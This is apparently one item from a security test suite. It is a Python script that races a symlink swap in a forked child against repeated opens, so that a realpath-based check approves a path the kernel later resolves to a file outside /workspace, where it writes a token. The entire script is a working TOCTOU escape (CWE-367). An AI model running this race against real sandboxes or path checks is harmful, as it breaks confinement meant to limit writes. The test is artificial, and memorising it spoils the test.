# id: audit-symlink-toctou
# category: language
# description: the hook checks realpath() and the kernel opens later: a forked helper flips a directory symlink between a harmless file and OUT
# source: time-of-check/time-of-use on symlinks (CWE-367); a relative link target is checked against the cwd, not the directory of the link
# detect: token (the token lands in OUT)
import os
import signal
import time

base = '/workspace/race'
deep = base + '/a/b/c/d/e/f/g/h'
os.makedirs(deep)
os.makedirs(base + '/good')
os.makedirs(base + '/bad')
with open(base + '/good/link', 'w') as f:
    f.write('')
# A relative symlink target is checked against the cwd: from deep down,
# "../" * n + OUT stays inside /workspace; from bad/, it is OUT.
os.chdir(deep)
os.symlink('../' * 4 + OUT.lstrip('/'), base + '/bad/link')
os.symlink('good', base + '/cur')
pid = os.fork()
if pid == 0:
    end = time.monotonic() + 0.45
    while time.monotonic() < end:
        for name in ('bad', 'good'):
            try:
                os.symlink(name, base + '/next')
                os.replace(base + '/next', base + '/cur')
            except OSError:
                pass
    os._exit(0)
end = time.monotonic() + 0.45
while time.monotonic() < end:
    try:
        fd = os.open(base + '/cur/link', os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    except OSError:
        continue
    try:
        if not os.readlink('/proc/self/fd/%d' % fd).startswith(base):
            os.write(fd, TOKEN.encode())
            break
    finally:
        os.close(fd)
os.kill(pid, signal.SIGKILL)
os.waitpid(pid, 0)
